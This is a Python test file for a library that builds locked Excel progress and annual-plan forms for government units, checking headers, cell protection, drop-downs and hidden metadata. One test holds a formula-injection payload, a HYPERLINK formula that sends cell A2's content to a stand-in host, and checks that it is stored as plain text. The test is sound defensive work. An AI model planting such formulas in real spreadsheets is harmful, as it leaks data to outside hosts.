"""Forms: one per unit, exact headers, locked pre-filled cells, drop-downs, embedded metadata."""

from __future__ import annotations

from pathlib import Path

from ledger_helpers import TASKS, filled_plan

from jj123lib.forms import (
    HELP_SHEET,
    META_SHEET,
    PLAN_SHEET,
    PROGRESS_COLUMNS,
    PROGRESS_PREFILLED,
    PROGRESS_SHEET,
    lead_unit_names,
    load_form,
    read_form_metadata,
    write_forms,
)
from jj123lib.ingest import ingest_files
from jj123lib.tasks import units


def test_progress_forms_for_every_unit(tmp_path: Path) -> None:
    paths = write_forms("2026q3", out_dir=tmp_path / "out", data_dir=tmp_path / "data")
    assert sorted(p.name for p in paths) == sorted(f"2026Q3_{u}_进度填报.xlsx" for u in units(TASKS))
    assert not (tmp_path / "data").exists()  # making forms does not touch the ledger
    wb = load_form(tmp_path / "out" / "2026Q3_陈埭镇_进度填报.xlsx")
    assert wb.sheetnames[:2] == [PROGRESS_SHEET, HELP_SHEET]
    ws = wb[PROGRESS_SHEET]
    assert [c.value for c in ws[1]] == list(PROGRESS_COLUMNS)
    ids = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
    assert ids == [t for t, us in zip(TASKS["task_id"], TASKS["units"]) if "陈埭镇" in us]
    assert "B24" in ids  # co-unit rows included
    assert ws.protection.sheet and not ws.protection.password
    for col, label in enumerate(PROGRESS_COLUMNS, start=1):
        assert ws.cell(2, col).protection.locked == (label in PROGRESS_PREFILLED)
    assert ws.cell(1, 1).protection.locked
    ranges = {str(dv.sqref): (dv.type, dv.formula1, dv.formula2) for dv in ws.data_validations.dataValidation}
    assert ("list", '"已完成,超进度,达进度,欠进度"', None) in ranges.values()
    assert ("list", '"是,否"', None) in ranges.values()
    assert ("decimal", "0", "100") in ranges.values()
    meta = read_form_metadata(wb)
    assert meta["kind"] == "progress" and meta["period"] == "2026Q3" and meta["unit"] == "陈埭镇"
    assert wb[META_SHEET].sheet_state == "hidden"
    props = {p.name: p.value for p in wb.custom_doc_props}
    assert props["jj123.unit"] == "陈埭镇" and props["jj123.period"] == "2026Q3"


def test_metadata_falls_back_to_custom_properties(tmp_path: Path) -> None:
    path = write_forms("2026Q3", out_dir=tmp_path, data_dir=tmp_path / "d", units=["商务局"])[0]
    wb = load_form(path)
    del wb[META_SHEET]
    assert read_form_metadata(wb)["unit"] == "商务局"


def test_plan_forms_for_lead_units_and_prefill_progress_forms(tmp_path: Path) -> None:
    paths = write_forms(plan=True, year=2026, out_dir=tmp_path / "plan")
    assert sorted(p.name for p in paths) == sorted(f"2026_{u}_年度计划.xlsx" for u in lead_unit_names(TASKS))
    ws = load_form(tmp_path / "plan" / "2026_商务局_年度计划.xlsx")[PLAN_SHEET]
    assert [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)] == ["N02", "P04", "B06"]
    data = tmp_path / "data"
    assert ingest_files([filled_plan(tmp_path / "f", "商务局")], data)[0].status == "accepted"
    form = write_forms("2026Q3", data_dir=data, units=["商务局"])[0]
    assert form.parent == data / "forms" / "2026Q3"
    ws = load_form(form)[PROGRESS_SHEET]
    assert ws.cell(2, 4).value == "完成第3阶段成果验收" and ws.cell(2, 5).value == 70


def test_prefilled_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    import pandas as pd

    from jj123lib.forms import build_progress_form

    hostile = '=HYPERLINK("http://example.invalid/?"&A2,"点击查看")'
    plan = pd.DataFrame([{"task_id": "N02", "quarter": "2026Q3", "milestone": hostile, "planned_pct": 70.0}])
    path = tmp_path / "form.xlsx"
    build_progress_form("商务局", "2026Q3", TASKS, plan).save(path)
    ws = load_form(path)[PROGRESS_SHEET]
    cell = ws.cell(2, PROGRESS_COLUMNS.index("本季度节点目标") + 1)
    assert cell.value == hostile and cell.data_type == "s"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_forms_for_a_year_outside_the_task_table_are_refused(tmp_path: Path) -> None:
    import pytest

    from jj123lib.exceptions import ParameterError

    for kwargs in ({"quarter": "2027Q1"}, {"plan": True, "year": 1999}):
        with pytest.raises(ParameterError, match="2026"):
            write_forms(out_dir=tmp_path / "f", **kwargs)
    assert not (tmp_path / "f").exists()
